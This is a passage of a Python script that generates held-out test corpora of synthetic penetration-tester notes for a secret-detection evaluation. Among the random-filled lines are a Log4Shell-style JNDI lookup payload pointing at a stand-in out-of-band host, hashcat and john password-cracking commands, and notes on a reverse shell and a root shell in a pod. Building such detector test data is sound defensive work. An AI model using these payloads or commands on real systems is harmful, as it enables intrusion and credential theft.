        f"jump box host key: ED25519 SHA256:{b64(secrets.token_bytes(32)).rstrip('=')}",
        f"verify before first login - ECDSA key fingerprint is SHA256:{b64(secrets.token_bytes(32)).rstrip('=')}.",
        f"bastion rotated host keys, new RSA fingerprint SHA256:{b64(secrets.token_bytes(32)).rstrip('=')} (confirmed by phone with the client)",
        f"known_hosts hash entry: |1|{b64(secrets.token_bytes(20))}|{b64(secrets.token_bytes(20))} ssh-ed25519",
    )
    r.add(
        "ssh_public_key",
        f"public key to send the client for authorized_keys on the jump box:\nssh-ed25519 {ssh_pub('ssh-ed25519', 32)} pentest@acme-jump",
        f"my pubkey (safe to share): ssh-ed25519 {ssh_pub('ssh-ed25519', 32)} ptlaptop",
        f"ssh-rsa {ssh_pub('ssh-rsa', 270)} pentest-2024",
        f"ecdsa-sha2-nistp256 {ssh_pub('ecdsa-sha2-nistp256', 73)} ops@pt-jump01",
    )
    r.add(
        "git_commit_sha",
        f"AWS key was introduced in commit {hexs(40)} and 'removed' in {hexs(40)} - still in history, client to rewrite",
        f"vulnerable version of the auth lib pinned at {hexs(7)}",
        f"git log -S 'SECRET_KEY' found it in {hexs(12)} (2022-06-11, author: build bot)",
        f"report tool repo tag v2.3 = {hexs(40)}",
    )
    r.add(
        "aws_arn",
        f"the leaked key belongs to arn:aws:iam::{digits(12, True)}:user/deploy-bot",
        f"privesc path: arn:aws:iam::{digits(12, True)}:role/acme-ci-admin via iam:PassRole",
        f"S3 bucket arn:aws:s3:::acme-backups-{hexs(6)} public ACL, finding F-12",
        f"Lambda arn:aws:lambda:eu-central-1:{digits(12, True)}:function:uploader-{rnd(LOWER + DIGITS, 8)}",
    )
    r.add(
        "pod_container_name",
        f"reverse shell landed in pod {pod_name('claims-api')} (namespace prod)",
        f"kubectl exec -it {pod_name('payments-worker')} -- id   -> uid=0(root)",
        f"container id {hexs(64)[:12]} running privileged on node ip-{ip().replace('.', '-')}",
        f"docker image acme/portal@sha256:{hexs(64)} has 14 critical CVEs",
    )
    r.add(
        "report_url_uuid",
        f"draft report: https://reports.acme.internal/engagements/{uid()}/draft",
        f"Dradis project https://dradis.pt.internal/projects/{digits(3, True)}/issues/{uid()}",
        f"client's correlation id for the WAF block: {uid()}",
        f"evidence folder id {uid()} in the share (encrypted archive, password sent separately)",
    )
    r.add(
        "publishable_or_client_key",
        f"Stripe publishable key in the frontend, public by design: pk_live_{rnd(ALNUM, 99)}",
        f"pk_test_{rnd(ALNUM, 99)} in the staging bundle - fine, not a finding",
        f"Azure app client_id {uid()} seen in the login redirect (public, not a secret)",
        f"reCAPTCHA site key 6L{rnd(URLSAFE, 38)} is in the HTML, expected",
        f"Algolia search-only key {hexs(32)} with app id {rnd(UPPER + DIGITS, 10)} - search-only scope verified, informational",
    )
    r.add(
        "ransomware_wallet_address",
        f"ransom note in the tabletop scenario used bc1q{rnd(BECH32, 38)} (test wallet, no funds)",
        f"IOC wallet: bc1q{rnd(BECH32, 38)}",
        f"sim BTC address for the exercise note: 3{rnd('123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz', 33)}",
    )
    r.add(
        "sample_fuzzy_hash",
        f"imphash {hexs(32)} shared by all three loaders",
        f"ssdeep: {digits(3, True)}:{rnd(ALNUM + '+/', 40)}:{rnd(ALNUM + '+/', 22)}",
        f"TLSH T1{rnd('0123456789ABCDEF', 70)}",
        f"pehash {hexs(40)} / rich header hash {hexs(32)}",
        f"authentihash {hexs(64)} (signed with a stolen-looking cert, revoked)",
    )
    r.add(
        "engagement_scope",
        "in scope: 10.20.0.0/16, 10.44.0.0/24, *.acme.test; out of scope: 10.20.9.0/24 (OT), payroll.acme.test",
        f"test window Sun-Thu 20:00-06:00 IST, source IPs {doc_ip()} and {doc_ip()}",
        "emergency contact: SOC hotline ext 4411, stop-test procedure per RoE section 6.2",
        f"scope doc v{secrets.randbelow(5) + 1}.{secrets.randbelow(10)} signed, SOW #{digits(6, True)}",
    )
    r.add(
        "klist_output",
        "#0>  Client: pt_user01 @ ACME.INTERNAL\n     Server: krbtgt/ACME.INTERNAL @ ACME.INTERNAL\n     KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96\n     Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent name_canonicalize\n     Start Time: 3/14/2024 21:02:11 (local)\n     Cache Flags: 0x1 -> PRIMARY",
        f"klist: Ticket cache: FILE:/tmp/krb5cc_{digits(4, True)}\nDefault principal: pentest.lp@ACME.INTERNAL\nValid starting     Expires            Service principal\n03/14/24 21:05:00  03/15/24 07:05:00  krbtgt/ACME.INTERNAL@ACME.INTERNAL",
        "RC4 tickets still issued for svc_* accounts (etype 0x17), AES only for users - finding F-09",
        "Kerberos max ticket lifetime 10h, renew 7d, clock skew 5 min - defaults",
        f"purge done: klist purge on WS-{digits(4)} after the test, 0 tickets left",
    )
    r.add(
        "windows_sid",
        f"domain SID {sid()}, RID 500 renamed to 'acme_adm'",
        f"BloodHound: {sid()}-512 (Domain Admins) has 23 members, 4 disabled",
        f"ACE grants GenericAll to {sid()}-{digits(4, True)} (helpdesk group) on the DA OU",
        f"objectSid of svc_mssql: {sid()}-{digits(4, True)}",
        f"GPO {{{uid().upper()}}} 'Acme Workstation Baseline' pushes the local admin group",
    )
    r.add(
        "hashcat_command",
        "hashcat -m 13100 -a 0 kerberoast.txt rockyou.txt -r OneRuleToRuleThemAll.rule -O",
        "hashcat -m 1000 ntds.nt wordlists/acme_custom.txt --username --show > cracked.txt  (results in the vault, not here)",
        f"GPU rig job #{digits(4, True)}: 4x RTX 4090, 312 GH/s on NTLM, ETA 2h for 9 chars",
        "john --format=netntlmv2 responder.hashes --wordlist=he_il_words.txt",
    )
    r.add(
        "tls_cert_thumbprint",
        f"ADFS token-signing cert thumbprint {rnd('0123456789ABCDEF', 40)}",
        f"pin for the mobile app: sha256/{b64(secrets.token_bytes(32))}",
        f"Get-ChildItem Cert:\\LocalMachine\\My -> Thumbprint {rnd('0123456789ABCDEF', 40)} CN=*.acme.internal",
        f"SHA-256 fingerprint of the VPN gateway cert: {serial(32)}",
    )
    r.add(
        "wifi_bssid",
        f"rogue AP test: cloned BSSID {':'.join(hexs(12)[i:i + 2] for i in range(0, 12, 2))} on channel 36",
        f"corp AP MACs: {':'.join(hexs(12)[i:i + 2] for i in range(0, 12, 2)).upper()}, {':'.join(hexs(12)[i:i + 2] for i in range(0, 12, 2)).upper()}",
        "ACME-CORP uses WPA2-Enterprise PEAP-MSCHAPv2, no cert validation on clients - evil twin possible",
    )
    r.add(
        "malware_mutex_registry_ioc",
        f"mutex Global\\{{{uid().upper()}}} created by the implant",
        f"persistence: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{rnd(LOWER, 8)} -> C:\\ProgramData\\{rnd(LOWER + DIGITS, 10)}.exe",
        f"named pipe \\\\.\\pipe\\msagent_{hexs(4)} (default CS SMB beacon pipe pattern)",
        f"scheduled task \\Microsoft\\Windows\\{uid()} runs every 15 min",
    )
    r.add(
        "burp_collaborator_payload",
        f"blind SSRF confirmed, DNS hit on {rnd(LOWER + DIGITS, 30)}.collab.acme.test",
        f"payload: ${{jndi:ldap://{rnd(LOWER + DIGITS, 20)}.oob.pt.internal/a}}",
        f"Collaborator interaction id {rnd(LOWER + DIGITS, 24)} at 21:14 from 203.0.113.9",
    )
    return r


def main() -> None:
    write_corpora("make_heldout197.py", [
        ("heldout197_credentials.yaml", credentials(), "Held-out batch 197: a Tel Aviv penetration tester's engagement notes that hold secrets (client test passwords, NTLM hashes, Kerberos tickets, keys found in client repos, VPN keys, tool licences)"),
        ("heldout197_lookalikes.yaml", lookalikes(), "Held-out batch 197: the same penetration tester's notes with no secret (CVEs, malware hashes, JA3/JARM, defanged IOCs, CVSS vectors, serials, redacted credentials, nmap output)"),
    ])


if __name__ == "__main__":
    main()
